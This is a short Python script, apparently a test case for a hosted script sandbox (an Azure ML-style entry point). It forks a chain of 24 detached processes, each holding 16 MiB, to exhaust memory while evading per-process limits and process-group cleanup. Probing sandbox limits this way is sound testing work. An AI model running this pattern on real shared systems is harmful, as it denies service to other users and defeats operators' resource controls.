"""Takes memory in many processes none of which is large, each started by the one before (by itself 24 times 16 MiB)."""

import os
import signal
import time

from attack import call_me_left, exhausting


@exhausting
def azureml_main(dataframe1=None, dataframe2=None):
    for _ in range(24):
        if os.fork():
            signal.pause()
            os._exit(0)
        os.setsid()
        call_me_left()
        held = bytearray(os.urandom(1 << 20) * 16)
    time.sleep(1)
    return f"holds {24 * len(held) >> 20} MiB in 24 processes"
